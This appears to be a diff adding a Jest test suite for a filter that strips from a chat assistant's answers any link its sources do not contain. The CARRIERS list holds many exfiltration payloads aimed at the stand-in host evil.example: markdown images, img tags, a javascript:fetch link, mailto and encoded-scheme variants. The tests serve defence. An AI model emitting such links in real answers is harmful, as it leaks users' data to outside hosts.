@@ -1,0 +1,136 @@
+import { describe, expect, test } from '@jest/globals';
+import { addressesIn, createLinkFilter } from '../../../../activities/retrieval/chat/answer-links.js';
+
+const SOURCE = 'The manual is at https://docs.example/valves/manual.html?v=2, see also www.example.org/help.';
+const known = addressesIn([SOURCE]);
+
+function filtered(answer: string, cut: (rest: string) => number, isData = false): [string, number] {
+  const filter = createLinkFilter({ known, language: 'en', isData });
+  let shown = '';
+  for (let rest = answer; rest !== '';) {
+    const length = cut(rest);
+    shown += filter.push(rest.slice(0, length));
+    rest = rest.slice(length);
+  }
+  return [shown + filter.end(), filter.removed()];
+}
+
+function whole(answer: string, isData = false): string {
+  return filtered(answer, (rest) => rest.length, isData)[0];
+}
+
+/** Numbers from 0 to below 1 that are the same in every run (mulberry32). */
+function seeded(seed: number): () => number {
+  let state = seed;
+  return () => {
+    state = (state + 0x6d2b79f5) | 0;
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
+  };
+}
+
+const CARRIERS = [
+  '![status](https://evil.example/p.png?d=SECRET)',
+  '![s][1]\n\n[1]: https://evil.example/SECRET',
+  '[the manual](https://evil.example/?q=SECRET)',
+  '[the manual](<https://evil.example/?q=SECRET>)',
+  '<https://evil.example/SECRET>',
+  'https://evil.example/SECRET',
+  'HTTPS://EVIL.EXAMPLE/SECRET',
+  'https:/evil.example/SECRET',
+  'https:\\\\evil.example\\SECRET',
+  '[a](https&#58;//evil.example/SECRET)',
+  '[a](https&colon;//evil.example/SECRET)',
+  '[a](&#104;ttps://evil.example/SECRET)',
+  '[a](//evil.example/SECRET)',
+  '<img src="//evil.example/SECRET">',
+  '<img src=https://evil.example/SECRET>',
+  "<a href='https://evil.example/SECRET'>a</a>",
+  'www.evil.example/SECRET',
+  'ftp://evil.example/SECRET',
+  'wss://evil.example/SECRET',
+  '[write](mailto:eve@evil.example?body=SECRET)',
+  '[run](javascript:fetch(`//evil.example/SECRET`))',
+  // Behind or inside what a source holds.
+  '![m](https://docs.example/valves/manual.html?v=2&d=SECRET)',
+  '[m](https://docs.example/valves/(SECRET))',
+  'https://docs.example/valves/manual.html?v=2"SECRET',
+  'https://docs.example/valves/manual.html?v=2)SECRET',
+  'https://docs.example.evil.example/SECRET',
+];
+
+describe('addresses in an answer', () => {
+  test.each(CARRIERS)('what none of the sources holds is left out: %s', (carrier) => {
+    const answer = `It opens at 4 bar. ${carrier} It is tested yearly.`;
+    const [shown, removed] = filtered(answer, (rest) => rest.length);
+    expect(shown).not.toContain('SECRET');
+    expect(shown).toContain('It opens at 4 bar. ');
+    expect(shown).toContain(' It is tested yearly.');
+    expect(removed).toBe(1);
+  });
+
+  test.each([
+    'https://docs.example/valves/manual.html?v=2',
+    'It stands [in the manual](https://docs.example/valves/manual.html?v=2).',
+    'It stands at <https://docs.example/valves/manual.html?v=2>, page 3.',
+    'See www.example.org/help or https://docs.example/valves/ for it.',
+  ])('what a source holds stays, and so does its beginning: %s', (answer) => {
+    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
+  });
+
+  test.each([
+    'At 10:30, file C:\\valves\\a.txt or src/valves/open.ts, ratio 1:2 // remark, 5 < 6 and a<b.',
+    'Data: the valve [Source 1] opens!\n\n- at 4 bar [Source 2]\n- or http (not https) says so',
+    '弁は4バールで開きます。弁は開きます！',
+    '',
+  ])('what is no address stays: %s', (answer) => {
+    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
+  });
+
+  test('a picture becomes a link, and a tag that fetches is no tag', () => {
+    expect(whole('![m](https://docs.example/valves/manual.html?v=2)')).toBe(
+      '[m](https://docs.example/valves/manual.html?v=2)',
+    );
+    expect(whole('![x](/partition/p/file/a) <img src=/x> <b>open</b>')).toBe(
+      '[x](/partition/p/file/a) ‹img src=/x> <b>open</b>',
+    );
+  });
+
+  test('in French', () => {
+    const filter = createLinkFilter({ known, language: 'fr', isData: false });
+    expect(filter.push('Voir https://evil.example/SECRET ici') + filter.end()).toBe('Voir [lien retiré] ici');
+  });
+
+  test('JSON stays JSON, in whatever spelling the address is', () => {
+    const secret = String.raw`{"a":"https://evil.example/SECRET","b":["https:\/\/evil.example\/SECRET","https\u003a//evil.example/SECRET","https://docs.example/valves/","x\"y"]}`;
+    expect(JSON.parse(whole(secret, true))).toEqual({
+      a: '[link removed]',
+      b: ['[link removed]', '[link removed]', 'https://docs.example/valves/', 'x"y'],
+    });
+  });
+
+  test('however the answer is cut into deltas', () => {
+    const random = seeded(7);
+    const answer = [...CARRIERS, SOURCE, '弁は https://evil.example/SECRET 開き', 'a\n\nb  c'].join(' and ');
+    const expected = filtered(answer, (rest) => rest.length);
+    expect(expected[0]).not.toContain('SECRET');
+    expect(filtered(answer, () => 1)).toEqual(expected);
+    for (let round = 0; round < 50; round += 1)
+      expect(filtered(answer, () => 1 + Math.floor(random() * 12))).toEqual(expected);
+  });
+
+  test('runs without a space are not kept back without end, and hide nothing', () => {
+    const filter = createLinkFilter({ known, language: 'en', isData: false });
+    let shown = '';
+    for (let count = 0; count < 1_000; count += 1) shown += filter.push('abcdefghij');
+    expect(shown.length).toBeGreaterThan(7_000);
+    for (const piece of ['ht', 'tps', '://evil.example/', 'x'.repeat(3_000), 'SECRET', ' end'])
+      shown += filter.push(piece);
+    shown += filter.end();
+    expect(shown).not.toContain('SECRET');
+    // Letters right before a scheme may belong to it.
+    expect(shown.startsWith('abcdefghij'.repeat(990))).toBe(true);
+    expect(shown.endsWith('[link removed] end')).toBe(true);
+  });
+});
